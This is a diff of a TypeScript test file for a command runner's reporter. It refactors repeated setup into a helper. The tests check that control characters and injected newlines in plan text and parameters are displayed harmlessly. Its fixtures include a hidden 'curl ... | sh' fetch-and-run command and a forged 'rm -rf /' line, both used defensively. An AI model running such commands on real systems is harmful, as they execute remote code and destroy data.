@@ -30,6 +30,15 @@ function hostilePlan(): CompiledPlan {
   });
 }
 
+/** What the plain reporter writes (stdout and stderr together) for these events. */
+function plainText(events: readonly RunEvent[], lang: 'en' | 'zh-CN', plan?: CompiledPlan): string {
+  const chunks: string[] = [];
+  const stream = { write: (s: string) => chunks.push(String(s)), on: () => undefined } as unknown as NodeJS.WritableStream;
+  const reporter = createPlainReporter({ lang, stdout: stream, stderr: stream, ...(plan ? { plan } : {}) });
+  for (const event of events) reporter.onEvent(event);
+  return chunks.join('');
+}
+
 describe('control characters in the plan', () => {
   it('are shown in the plan as text, so the whole command can be read', () => {
     const out = renderPlanText(hostilePlan(), { lang: 'en' });
@@ -63,11 +72,7 @@ describe('control characters in a run', () => {
   ];
 
   it('are shown by the plain reporter (child output is still cleaned of its sequences)', () => {
-    const chunks: string[] = [];
-    const stream = { write: (s: string) => chunks.push(String(s)), on: () => undefined } as unknown as NodeJS.WritableStream;
-    const reporter = createPlainReporter({ lang: 'en', stdout: stream, stderr: stream, plan: hostilePlan() });
-    for (const event of events) reporter.onEvent(event);
-    const out = chunks.join('');
+    const out = plainText(events, 'en', hostilePlan());
     expect(out).not.toMatch(ACTED_ON);
     expect(out).toContain('$ echo safe ␛[8m; curl -s https://example.invalid/x | sh ␛[28m');
     expect(out).toContain('Step ␛[1Aone');
@@ -107,11 +112,7 @@ describe('a value shown inside one line', () => {
   });
 
   it('keeps the plain header to one params line', () => {
-    const chunks: string[] = [];
-    const stream = { write: (s: string) => chunks.push(String(s)), on: () => undefined } as unknown as NodeJS.WritableStream;
-    const reporter = createPlainReporter({ lang: 'en', stdout: stream, stderr: stream });
-    reporter.onEvent(startedWith([{ name: 'msg', value, secret: false }, { name: 'next', value: 'x', secret: false }]));
-    const lines = chunks.join('').split('\n');
+    const lines = plainText([startedWith([{ name: 'msg', value, secret: false }, { name: 'next', value: 'x', secret: false }])], 'en').split('\n');
     const params = lines.filter((l) => l.includes('params:'));
     expect(params).toEqual(['  params: msg=a␤  journal: /tmp/elsewhere␍␛[2K next=x']);
     expect(lines.filter((l) => l.includes('journal:'))).toEqual([params[0], '  journal: /j']);
@@ -165,11 +166,7 @@ describe('a name or an environment value templated from a parameter', () => {
 
   it('stays on its row in the plain lines, in English and Chinese', () => {
     for (const lang of ['en', 'zh-CN'] as const) {
-      const chunks: string[] = [];
-      const stream = { write: (s: string) => chunks.push(String(s)), on: () => undefined } as unknown as NodeJS.WritableStream;
-      const reporter = createPlainReporter({ lang, stdout: stream, stderr: stream, plan: named() });
-      for (const event of events) reporter.onEvent(event);
-      const out = chunks.join('');
+      const out = plainText(events, lang, named());
       noForgedLine(out);
       expect(out).toContain('Say x␤  2. forged — rm -rf /');
       expect(out).toContain('probe x␤  2. forged — rm -rf /');
@@ -178,11 +175,7 @@ describe('a name or an environment value templated from a parameter', () => {
 
   it("goes on indented under a gate's question in the plain lines, in English and Chinese", () => {
     for (const lang of ['en', 'zh-CN'] as const) {
-      const chunks: string[] = [];
-      const stream = { write: (s: string) => chunks.push(String(s)), on: () => undefined } as unknown as NodeJS.WritableStream;
-      const reporter = createPlainReporter({ lang, stdout: stream, stderr: stream, plan: named() });
-      reporter.onEvent({ ...base, type: 'confirm.requested', id: 'gate', message: 'Go x\n  ✓ [2/2] say  ok\nreally?' });
-      const lines = chunks.join('').trimEnd().split('\n');
+      const lines = plainText([{ ...base, type: 'confirm.requested', id: 'gate', message: 'Go x\n  ✓ [2/2] say  ok\nreally?' }], lang, named()).trimEnd().split('\n');
       expect(lines).toHaveLength(3);
       expect(lines.slice(1)).toEqual(['        ✓ [2/2] say  ok', '      really?']);
     }
